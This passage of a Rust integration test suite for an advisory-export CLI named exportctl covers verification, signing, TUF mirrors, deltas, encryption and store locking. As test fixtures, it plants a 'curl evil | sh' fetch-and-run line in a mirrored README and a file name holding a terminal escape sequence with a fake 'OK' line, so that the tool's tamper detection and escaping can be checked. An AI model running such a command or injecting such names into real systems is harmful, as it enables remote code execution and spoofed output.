    mkfifo(&out.join("manifest.json"));
    let o = run_bounded(&["verify", out.to_str().unwrap()]);
    assert!(!o.status.success(), "{}", text(&o));
    let lone = tmp.path().join("lone.tar.zst");
    mkfifo(&lone);
    let o = run_bounded(&["verify", lone.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("ERR_EXPORT_IO") && text(&o).contains("not a regular file"), "{}", text(&o));
    // A FIFO as --key and --sign-key; /dev/zero as --key.
    let key = tmp.path().join("key.pem");
    mkfifo(&key);
    for args in [
        vec!["verify", out.to_str().unwrap(), "--key", key.to_str().unwrap()],
        vec!["verify", out.to_str().unwrap(), "--key", "/dev/zero"],
    ] {
        let o = run_bounded(&args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", text(&o));
        assert!(text(&o).contains("ERR_EXPORT_IO"), "{args:?}: {}", text(&o));
    }
    let signed = tmp.path().join("signed");
    let o = run_bounded(&[
        "run",
        "--profile",
        "json:raw",
        "--evidence",
        samples().to_str().unwrap(),
        "--out",
        signed.to_str().unwrap(),
        "--store",
        &store_of(&signed),
        "--sign-key",
        key.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("ERR_EXPORT_IO"), "{}", text(&o));
    assert!(!signed.exists(), "a refused run leaves no --out behind");
}

/// An evidence file replaced by a FIFO between listing and reading fails the run; it does not
/// block it forever.
#[test]
fn an_evidence_file_swapped_for_a_fifo_fails_the_run() {
    use exportcore::EvidenceSource;
    let tmp = tempfile::tempdir().unwrap();
    let ev_dir = tmp.path().join("ev");
    std::fs::create_dir_all(ev_dir.join("advisories")).unwrap();
    let file = ev_dir.join("advisories/a.json");
    std::fs::write(&file, r#"{"id":"A","modified":"2025-01-01T00:00:00Z"}"#).unwrap();
    let ev = exportcore::DirEvidence::new(&ev_dir).unwrap();
    let items = ev.list(exportcore::EvidenceKind::Advisory).unwrap();
    std::fs::remove_file(&file).unwrap();
    mkfifo(&file);
    let (tx, rx) = std::sync::mpsc::channel();
    let path = items[0].path.clone();
    std::thread::spawn(move || {
        let _ = tx.send(ev.open(&path).map(|_| ()).map_err(|e| e.report()));
    });
    let got = rx.recv_timeout(std::time::Duration::from_secs(30)).expect("opening a FIFO hung");
    assert!(got.unwrap_err().contains("not a regular file"));
}

/// The engine lock belongs to the store file, not to the spelling of its path: while an engine
/// holds it, `--store` through a symlink must not "recover" (fail) that engine's running run.
#[test]
fn the_store_lock_follows_symlinks() {
    use exportcore::store::{NewRun, RunStore, SqliteStore};
    let tmp = tempfile::tempdir().unwrap();
    let real = tmp.path().join("real.sqlite");
    let link = tmp.path().join("link.sqlite");
    let rt = tokio::runtime::Runtime::new().unwrap();
    let run_id = rt.block_on(async {
        let store = SqliteStore::open(&real).unwrap();
        let now = exportcore::Timestamp::now();
        let tenant = exportcore::TenantId::from_static("default");
        let id = exportcore::RunId::generate(&tenant);
        let request = exportcore::RunRequest::new(exportcore::ProfileId::from_static("json:raw"));
        let run = exportcore::Run::queued(id.clone(), tenant, None, request.profile_id.clone(), now);
        let hash = exportcore::Sha256Digest::of(b"r");
        store.create(NewRun { run, request, request_hash: hash, rank: 0, idempotency: None }, now).await.unwrap();
        store.claim_next(now, &exportcore::Lease::new(now)).await.unwrap().unwrap();
        id
    });
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(format!("{}.lock", real.canonicalize().unwrap().display()))
        .unwrap();
    lock.lock_shared().unwrap(); // a live engine
    let show = |store: &Path| run(&["runs", "show", run_id.as_str(), "--json", "--store", store.to_str().unwrap()]);
    let o = show(&link);
    assert!(o.status.success(), "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stdout).contains("\"status\": \"running\""), "{}", text(&o));
    lock.unlock().unwrap(); // the engine died
    let o = show(&link);
    assert!(String::from_utf8_lossy(&o.stdout).contains("\"status\": \"failed\""), "{}", text(&o));
    assert!(text(&o).contains("ERR_EXPORT_INTERRUPTED"), "{}", text(&o));
}

/// Store paths that cannot hold a store are I/O errors naming the user's path; `:memory:`
/// works and leaves no stray lock file.
#[test]
fn bad_store_paths_are_io_errors_naming_them() {
    let tmp = tempfile::tempdir().unwrap();
    for store in ["/dev/null", tmp.path().to_str().unwrap()] {
        let out = tmp.path().join("out");
        let o = export("json:raw", &samples(), &out, &["--store", store]);
        assert_eq!(o.status.code(), Some(2), "{store}: {}", text(&o));
        assert!(text(&o).contains("ERR_EXPORT_IO") && text(&o).contains(store), "{store}: {}", text(&o));
        assert!(!out.exists());
    }
    let out = tmp.path().join("mem");
    let o = exportctl()
        .args(["run", "--profile", "json:raw", "--evidence", samples().to_str().unwrap()])
        .args(["--out", out.to_str().unwrap(), "--store", ":memory:"])
        .current_dir(tmp.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(!tmp.path().join(":memory:.lock").exists() && !tmp.path().join(":memory:").exists());
}

/// Small contract edges: control characters in FAIL lines are escaped, `--now` alone is an
/// error, a duration that overflows is an error, `--limit 0` is an error, an output inside the
/// evidence is refused, a pre-1970 `--created-at` is refused, an unknown run is "not found".
#[test]
fn contract_edges_are_typed_errors() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    assert!(export("json:raw", &samples(), &out, &[]).status.success());
    // A file whose name holds ESC and a newline, added to the output: FAIL names it escaped.
    std::fs::write(out.join("evil\u{1b}[2J\nOK fake"), b"x").unwrap();
    let o = run_verify(&out);
    let t = text(&o);
    assert_eq!(o.status.code(), Some(1), "{t}");
    assert!(!t.contains('\u{1b}') && t.contains("\\u{1b}") && !t.lines().any(|l| l.starts_with("OK fake")), "{t}");
    let cases: Vec<(Vec<String>, &str)> = vec![
        (vec!["verify".into(), out.to_str().unwrap().into(), "--now".into(), "2025-01-01T00:00:00Z".into()], "--now"),
        (
            vec!["verify".into(), out.to_str().unwrap().into(), "--max-age".into(), "999999999999999999d".into()],
            "--max-age",
        ),
        (vec!["runs".into(), "list".into(), "--limit".into(), "0".into(), "--store".into(), store_of(&out)], "--limit"),
        (
            vec!["runs".into(), "show".into(), "export-run::default::nope".into(), "--store".into(), store_of(&out)],
            "not found",
        ),
    ];
    for (args, want) in cases {
        let o = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", text(&o));
        assert!(text(&o).contains(want), "{args:?}: {}", text(&o));
    }
    // --out inside --evidence; --created-at before 1970.
    let ev = tmp.path().join("ev");
    std::fs::create_dir_all(ev.join("advisories")).unwrap();
    std::fs::write(ev.join("advisories/a.json"), r#"{"id":"A","modified":"2025-01-01T00:00:00Z"}"#).unwrap();
    let o = export("json:raw", &ev, &ev.join("out"), &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("lies inside --evidence"), "{}", text(&o));
    let o = export("json:raw", &ev, &tmp.path().join("old"), &["--created-at", "1969-12-31T23:59:59Z"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("createdAt"), "{}", text(&o));
    // Usage errors carry the contract's code too.
    let o = run(&["bogus"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("error: ERR_EXPORT_REQUEST_INVALID: unrecognized subcommand"), "{}", text(&o));
    let o = run(&["run", "--profile", "json:raw"]);
    assert!(
        o.status.code() == Some(2)
            && text(&o).contains("ERR_EXPORT_REQUEST_INVALID")
            && text(&o).contains("--evidence"),
        "{}",
        text(&o)
    );
    // A bad tenant and a SOURCE_DATE_EPOCH before 1970: refused before --out is made.
    let out = tmp.path().join("never");
    let o = export("json:raw", &ev, &out, &["--tenant", "bad tenant!"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(!out.exists(), "a refused run left {}", out.display());
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_exportctl"))
        .args(["run", "--profile", "json:raw", "--evidence"])
        .arg(&ev)
        .arg("--out")
        .arg(&out)
        .arg("--store")
        .arg(tmp.path().join("s.sqlite"))
        .env("SOURCE_DATE_EPOCH", "-5")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("before 1970") && !out.exists(), "{}", text(&o));
}

/// A full disk and a read-only file system are `ERR_EXPORT_IO` naming the user's `--out` (not
/// a temp file), and leave nothing behind. Needs root and mount namespaces (`unshare -m`), so
/// it runs with the interop tests (`EXPORTCORE_INTEROP=1`).
#[test]
fn a_full_or_read_only_disk_names_the_output() {
    if std::env::var("EXPORTCORE_INTEROP").map_or(true, |v| v != "1") {
        eprintln!("not run: needs EXPORTCORE_INTEROP=1 (root, unshare -m)");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mnt = tmp.path().join("m");
    std::fs::create_dir_all(&mnt).unwrap();
    let out = mnt.join("out");
    for (opts, want) in [("size=20k", "No space left on device"), ("size=1m,ro", "Read-only file system")] {
        let script = format!(
            "mount -t tmpfs -o {opts} tmpfs '{m}' && '{bin}' run --profile json:raw --evidence '{ev}' --out '{out}' \
             --store '{store}'; echo \"exit=$?\"; ls -A '{m}'",
            m = mnt.display(),
            bin = env!("CARGO_BIN_EXE_exportctl"),
            ev = samples().display(),
            out = out.display(),
            store = tmp.path().join("s.sqlite").display(),
        );
        let o = Command::new("unshare").args(["-m", "sh", "-c", &script]).output().unwrap();
        let t = text(&o);
        assert!(o.status.success(), "unshare: {t}");
        assert!(t.contains("exit=1") || t.contains("exit=2"), "{opts}: {t}");
        assert!(t.contains(&format!("ERR_EXPORT_IO: I/O error on {}: {want}", out.display())), "{opts}: {t}");
        let stdout = String::from_utf8_lossy(&o.stdout);
        let listing = stdout.lines().skip_while(|l| !l.starts_with("exit=")).skip(1).collect::<Vec<_>>();
        assert!(listing.is_empty(), "{opts}: left behind: {listing:?}");
    }
}

#[test]
fn selectors_through_the_cli() {
    let tmp = tempfile::tempdir().unwrap();
    let (a, b) = (tmp.path().join("a"), tmp.path().join("b"));
    let pinned = ["--created-at", "2025-01-01T00:00:00Z"];
    let o = export(
        "json:raw",
        &samples(),
        &a,
        &[&pinned[..], &["--ecosystem", "PyPI", "npm", "--since", "2020-01-01T00:00:00Z"]].concat(),
    );
    assert!(o.status.success(), "{}", text(&o));
    let o = export(
        "json:raw",
        &samples(),
        &b,
        &[&pinned[..], &["--since", "2020-01-01T00:00:00Z", "--ecosystem", "npm", "--ecosystem", "PyPI"]].concat(),
    );
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(tree(&a), tree(&b), "the order of selectors changes no byte");
    let v = run_verify(&a);
    assert!(v.status.success(), "{}", text(&v));
    let line = String::from_utf8_lossy(&v.stdout).lines().find(|l| l.starts_with("selection:")).map(str::to_owned);
    let line = line.unwrap_or_else(|| panic!("verify prints the selection: {}", text(&v)));
    assert!(line.contains("ecosystems=PyPI,npm since=2020-01-01T00:00:00Z"), "{line}");
    assert!(line.contains("advisory ") && line.contains(" selected"), "{line}");

    // A window that selects nothing: an empty, verifiable run and a warning.
    let empty = tmp.path().join("empty");
    let o = export("trivy:db", &samples(), &empty, &["--until", "1990-01-01T00:00:00Z"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("warning: WARN_EXPORT_SELECTION_EMPTY"), "{}", text(&o));
    let v = run_verify(&empty);
    assert!(v.status.success(), "{}", text(&v));
    assert!(String::from_utf8_lossy(&v.stdout).contains("advisory 0/"), "{}", text(&v));

    // Bad selectors: typed errors naming the flag or field, nothing under --out.
    let s = samples();
    assert_run_fails(&s, &["--package", "django"], "ERR_EXPORT_REQUEST_INVALID", "selectors.packages[0]");
    assert_run_fails(&s, &["--package", "pkg:pypi/django@4.2"], "ERR_EXPORT_REQUEST_INVALID", "names a version");
    assert_run_fails(&s, &["--since", "yesterday"], "ERR_EXPORT_REQUEST_INVALID", "--since");
    assert_run_fails(
        &s,
        &["--since", "2024-02-01T00:00:00Z", "--until", "2024-01-01T00:00:00Z"],
        "ERR_EXPORT_REQUEST_INVALID",
        "selectors.modifiedUntil",
    );
    assert_run_fails(&s, &["--id", "CVE 1"], "ERR_EXPORT_REQUEST_INVALID", "selectors.ids[0]");
}

#[test]
fn mirror_full_through_the_cli() {
    let tmp = tempfile::tempdir().unwrap();
    let prefix = tmp.path().join("signer");
    let o = run(&["keygen", "--algorithm", "ed25519", "--out", prefix.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    let (key, public) = (format!("{}.key", prefix.display()), format!("{}.pub", prefix.display()));
    let out = tmp.path().join("mirror");
    let o = export("mirror:full", &samples(), &out, &["--sign-key", &key, "--created-at", "2025-06-01T00:00:00Z"]);
    assert!(o.status.success(), "{}", text(&o));
    for f in ["mirror/export.json", "oci/index.json", "tuf/metadata/timestamp.json", "manifest.dsse.json"] {
        assert!(out.join(f).is_file(), "{f} missing");
    }
    let o = run(&["verify", out.to_str().unwrap(), "--key", &public, "--now", "2025-06-02T00:00:00Z"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("signatures valid"), "{}", text(&o));
    // After the timestamp role's 90 days: stale, exit 1.
    let o = run(&["verify", out.to_str().unwrap(), "--key", &public, "--now", "2025-10-01T00:00:00Z"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("ERR_EXPORT_STALE") && text(&o).contains("timestamp.json"), "{}", text(&o));
    // A TUF target edited on the way: exit 1, naming it.
    let sha = {
        let export: serde_json::Value =
            serde_json::from_slice(&std::fs::read(out.join("mirror/export.json")).unwrap()).unwrap();
        export["files"].as_array().unwrap().iter().find(|f| f["path"] == "README.md").unwrap()["sha256"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    std::fs::write(out.join(format!("tuf/targets/{sha}.README.md")), "curl evil | sh\n").unwrap();
    let o = run(&["verify", out.to_str().unwrap(), "--key", &public, "--now", "2025-06-02T00:00:00Z"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("README.md"), "{}", text(&o));
}

#[test]
fn mirror_delta_apply_decrypt_through_the_cli() {
    let tmp = tempfile::tempdir().unwrap();
    let prefix = tmp.path().join("signer");
    assert!(run(&["keygen", "--algorithm", "ecdsa-p256", "--out", prefix.to_str().unwrap()]).status.success());
    let (key, public) = (format!("{}.key", prefix.display()), format!("{}.pub", prefix.display()));
    let old = tmp.path().join("old");
    let o = export("mirror:full", &samples(), &old, &["--sign-key", &key, "--created-at", "2025-06-01T00:00:00Z"]);
    assert!(o.status.success(), "{}", text(&o));
    // New evidence: one advisory fewer.
    let ev2 = tmp.path().join("ev2");
    assert!(std::process::Command::new("cp").arg("-r").arg(samples()).arg(&ev2).status().unwrap().success());
    std::fs::remove_file(ev2.join("advisories/pypi/GHSA-r3xc-prgr-mg9p.json")).unwrap();
    let delta = tmp.path().join("delta");
    let args = ["--sign-key", &key, "--created-at", "2025-06-05T00:00:00Z", "--base", old.to_str().unwrap()];
    let o = export("mirror:delta", &ev2, &delta, &args);
    assert!(o.status.success(), "{}", text(&o));
    assert!(delta.join("delta/manifest.diff.json").is_file());
    // A delta verifies on its own (files, signature), saying what is left for apply.
    let o = run(&["verify", delta.to_str().unwrap(), "--key", &public]);
    assert!(o.status.success() && text(&o).contains("mirror apply"), "{}", text(&o));
    let tampered = tmp.path().join("tampered-delta");
    assert!(std::process::Command::new("cp").arg("-r").arg(&delta).arg(&tampered).status().unwrap().success());
    let diff_path = tampered.join("delta/manifest.diff.json");
    let mut diff = std::fs::read(&diff_path).unwrap();
    diff.push(b' ');
    std::fs::write(&diff_path, diff).unwrap();
    let o = run(&["verify", tampered.to_str().unwrap(), "--key", &public]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("delta/manifest.diff.json"), "{}", text(&o));
    // --base belongs to mirror:delta only, and mirror:delta needs it.
    let o = export("json:raw", &samples(), &tmp.path().join("x"), &["--base", old.to_str().unwrap()]);
    assert!(!o.status.success() && text(&o).contains("--base"), "{}", text(&o));
    let o = export("mirror:delta", &samples(), &tmp.path().join("y"), &[]);
    assert!(!o.status.success() && text(&o).contains("base"), "{}", text(&o));
    // An output inside the base would change it.
    let inside = old.join("mirror/new-delta");
    let o = export("mirror:delta", &ev2, &inside, &args);
    assert!(!o.status.success() && text(&o).contains("lies inside --base"), "{}", text(&o));
    assert!(!inside.exists());

    let new = tmp.path().join("new");
    let paths = |p: &Path| p.to_str().unwrap().to_owned();
    let apply = |base: &Path, out: &Path| {
        run(&[
            "mirror",
            "apply",
            "--base",
            &paths(base),
            "--delta",
            &paths(&delta),
            "--out",
            &paths(out),
            "--key",
            &public,
        ])
    };
    let o = apply(&old, &new);
    assert!(o.status.success(), "{}", text(&o));
    let o = run(&["verify", new.to_str().unwrap(), "--key", &public, "--now", "2025-06-06T00:00:00Z"]);
    assert!(o.status.success(), "{}", text(&o));
    let o = apply(&new, &tmp.path().join("again"));
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("ERR_EXPORT_BASE_MISSING") && text(&o).contains("already applied"), "{}", text(&o));
    assert!(!tmp.path().join("again").exists());

    // Encrypted to an age recipient file; decrypted with the identity.
    let id = age::x25519::Identity::generate();
    let recipients = tmp.path().join("recipients.txt");
    std::fs::write(&recipients, format!("# ops team\n{}\n", id.to_public())).unwrap();
    let identity = tmp.path().join("identity.txt");
    {
        use age::secrecy::ExposeSecret;
        std::fs::write(&identity, format!("{}\n", id.to_string().expose_secret())).unwrap();
    }
    let enc = tmp.path().join("enc");
    let o =
        export("mirror:full", &samples(), &enc, &["--sign-key", &key, "--encrypt-to", recipients.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    let decrypt = |out: &Path, extra: &[&str]| {
        let mut args = vec!["decrypt", enc.to_str().unwrap(), "--identity", identity.to_str().unwrap(), "--out"];
        args.push(out.to_str().unwrap());
        args.extend(extra);
        run(&args)
    };
    let plain = tmp.path().join("plain");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&identity, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let o = decrypt(&plain, &["--key", &public]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(plain.join("data/raw/advisories/pypi.jsonl.zst").is_file());
    assert!(text(&o).contains("readable by others") && !text(&o).contains("no --key"), "{}", text(&o));
    // A file added to the mirror: nothing is decrypted.
    std::fs::write(enc.join("mirror/data/raw/advisories/evil.jsonl.zst"), b"x").unwrap();
    let refused = tmp.path().join("refused");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&identity, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let o = decrypt(&refused, &[]);
    assert!(!o.status.success() && text(&o).contains("ERR_EXPORT_VERIFY_FAILED"), "{}", text(&o));
    assert!(text(&o).contains("no --key") && !text(&o).contains("readable by others"), "{}", text(&o));
    assert!(text(&o).contains("evil.jsonl.zst") && !refused.exists(), "{}", text(&o));
    let o = export("mirror:full", &samples(), &tmp.path().join("z"), &["--encrypt-to", "age1nope"]);
    assert!(!o.status.success() && text(&o).contains("--encrypt-to"), "{}", text(&o));
    // The identity file given as the recipients (an easy mistake), or its key pasted: refused
    // without echoing the secret key.
    let secret = std::fs::read_to_string(&identity).unwrap().trim().to_owned();
    for value in [identity.to_str().unwrap(), secret.as_str()] {
        let o = export("mirror:full", &samples(), &tmp.path().join("z2"), &["--encrypt-to", value]);
        assert!(!o.status.success() && text(&o).contains("an age identity (a secret key)"), "{}", text(&o));
        assert!(!text(&o).contains(&secret[15..]), "the secret key was echoed: {}", text(&o));
    }
    let o = export("json:raw", &samples(), &tmp.path().join("w"), &["--encrypt-to", &id.to_public().to_string()]);
    assert!(!o.status.success() && text(&o).contains("ERR_EXPORT_NOT_SUPPORTED"), "{}", text(&o));
}

/// A store that cannot save a run's final state: `run` says so, with the store's error, and
/// exits non-zero (it used to wait forever for a terminal event the store never held).
#[test]
fn a_store_that_cannot_save_the_final_state_fails_the_run_instead_of_hanging() {
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("s.sqlite");
    let first = export("json:raw", &samples(), &tmp.path().join("a"), &["--store", store.to_str().unwrap()]);
    assert!(first.status.success(), "{}", text(&first));
    // Break the store after its migrations: the final update names a column it lacks.
    let c = rusqlite::Connection::open(&store).unwrap();
    c.execute_batch("ALTER TABLE runs DROP COLUMN cancel_requested").unwrap();
    drop(c);
    let out = tmp.path().join("b");
    let (samples, out, store) = (samples(), out.to_str().unwrap().to_owned(), store.to_str().unwrap().to_owned());
    let o = run_bounded(&[
        "run",
        "--profile",
        "json:raw",
        "--evidence",
        samples.to_str().unwrap(),
        "--out",
        &out,
        "--store",
        &store,
    ]);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("did not save its final state"), "{}", text(&o));
    assert!(text(&o).contains("cancel_requested"), "the store's own error is shown: {}", text(&o));
}

/// Runs of several processes on one SQLite store all succeed and keep every event: writes
/// take the write lock up front (a deferred transaction upgraded by a second writer failed
/// with SQLITE_BUSY_SNAPSHOT, leaving runs queued or failed and events lost).
#[test]
fn concurrent_processes_share_one_sqlite_store() {
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("shared.sqlite");
    let s = store.to_str().unwrap().to_owned();
    for round in 0..4 {
        let children: Vec<_> = (0..4)
            .map(|i| {
                exportctl()
                    .args(["run", "--profile", "json:raw", "--evidence"])
                    .arg(samples())
                    .arg("--out")
                    .arg(tmp.path().join(format!("o{round}-{i}")))
                    .args(["--store", &s])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for c in children {
            let o = c.wait_with_output().unwrap();
            assert!(o.status.success(), "round {round}: {}", String::from_utf8_lossy(&o.stderr));
        }
    }
    let o = run(&["runs", "list", "--store", &s, "--json", "--limit", "100"]);
    assert!(o.status.success(), "{}", text(&o));
    let list: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(list.len(), 16);
    for r in &list {
        assert_eq!(r["status"], "succeeded", "{r}");
        let id = r["runId"].as_str().unwrap();
        let o = run(&["runs", "events", id, "--store", &s, "--json"]);
        let names: Vec<String> = String::from_utf8_lossy(&o.stdout)
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .map(|e| e["event"].as_str().unwrap_or_default().to_owned())
            .collect();
        assert_eq!(names.first().map(String::as_str), Some("started"), "{id}: {names:?}");
        assert_eq!(names.last().map(String::as_str), Some("completed"), "{id}: {names:?}");
    }
}

/// A run refused after `--out` was claimed (here: the store refuses to store the run) leaves
/// no `--out` behind.
#[test]
fn a_run_refused_after_claiming_out_leaves_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("s.sqlite");
    let s = store.to_str().unwrap().to_owned();
    let o = export("json:raw", &samples(), &tmp.path().join("first"), &["--store", &s]);
    assert!(o.status.success(), "{}", text(&o));
    let c = rusqlite::Connection::open(&store).unwrap();
    c.execute_batch("CREATE TRIGGER refuse BEFORE INSERT ON runs BEGIN SELECT RAISE(ABORT, 'refused'); END;").unwrap();
    drop(c);
    let out = tmp.path().join("second");
    let o = export("json:raw", &samples(), &out, &["--store", &s]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(!out.exists(), "a refused run left {}: {}", out.display(), text(&o));
}

/// A run of many artifacts prints the first 1000 `artifact_ready` lines and then how many
/// more there were, not one line per artifact (a 40,000-file mirror has 160,000); the store
/// keeps every event.
#[test]
fn a_run_of_many_artifacts_prints_a_bounded_list() {
    let tmp = tempfile::tempdir().unwrap();
    let ev = tmp.path().join("ev");
    assert!(Command::new("cp").arg("-r").arg(samples()).arg(&ev).status().unwrap().success());
    std::fs::create_dir_all(ev.join("blobs/many")).unwrap();
    for i in 0..400 {
        std::fs::write(ev.join(format!("blobs/many/f{i:03}.bin")), format!("blob {i}")).unwrap();
    }
    let store = tmp.path().join("s.sqlite");
    let s = store.to_str().unwrap();
    let o = export("mirror:full", &ev, &tmp.path().join("out"), &["--store", s, "--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let record: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let outputs = record["outputs"].as_array().unwrap().len();
    assert!(outputs > 1100, "{outputs} outputs");
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(err.lines().filter(|l| l.starts_with("artifact_ready ") && l.ends_with(" bytes)")).count(), 1000);
    let id = record["runId"].as_str().unwrap();
    let summary =
        format!("artifact_ready … and {} more (`exportctl runs events {id}` lists every one)", outputs - 1000);
    assert!(err.lines().any(|l| l == summary), "{err}");
    let o = run(&["runs", "events", id, "--store", s]);
    let ready = String::from_utf8_lossy(&o.stdout).lines().filter(|l| l.contains("\"artifact_ready\"")).count();
    assert_eq!(ready, outputs, "the store keeps every artifact_ready event");
}
